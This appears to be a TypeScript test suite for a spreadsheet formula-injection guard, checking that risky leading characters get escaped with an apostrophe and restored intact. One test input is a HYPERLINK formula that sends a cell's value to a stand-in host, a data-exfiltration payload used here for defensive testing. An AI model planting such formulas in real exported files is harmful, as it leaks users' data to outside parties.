import { test } from '@japa/runner'
import { guardCell, keepApostrophe, unguardCell } from '#domain/text_guard'
import { guard, unguard } from '#services/documents/cells'

const FORMULAS = [
  '=HYPERLINK("http://contoh.invalid/?d="&A1,"klik")',
  '+62811000000',
  '-UJI',
  '@SUM(1,1)',
  '\t=1+1',
  '\r=1+1',
  '\n=1+1',
  '=1+1',
  ...['\uff1d1+1', '\uff0b1', '\uff0d1', '\uff20SUM(1,1)'],
  '-6.2',
]
const HARMLESS = ['SITI UJI', "'ALIM UJI", '', "'", 'A=1', '1-2', '3201014507859901']

test.group('Formula guard (S17)', () => {
  test('{$self} is guarded and comes back as it was')
    .with(FORMULAS)
    .run(({ assert }, text) => {
      assert.strictEqual(guardCell(text), `'${text}`)
      assert.strictEqual(guard(text), `'${text}`)
      assert.strictEqual(unguard(guard(text)), text)
      assert.strictEqual(unguardCell(guardCell(text)), text)
    })

  test('"{$self}" needs no guard')
    .with(HARMLESS)
    .run(({ assert }, text) => {
      assert.strictEqual(guardCell(text), text)
      assert.strictEqual(unguardCell(text), text)
    })

  test('a text that already looks guarded comes back with its own apostrophes', ({ assert }) => {
    for (const text of ["'=1+1", "''=1+1", "'-UJI"]) {
      assert.notEqual(guardCell(text), text)
      assert.strictEqual(unguardCell(guardCell(text)), text)
      assert.strictEqual(unguardCell(keepApostrophe(text)), text)
    }
    for (const text of ['=1+1', "'ALIM UJI", "'"]) assert.strictEqual(keepApostrophe(text), text)
  })

  test('a number stays a number', ({ assert }) => {
    assert.strictEqual(guardCell(-6.2), '-6.2')
  })
})
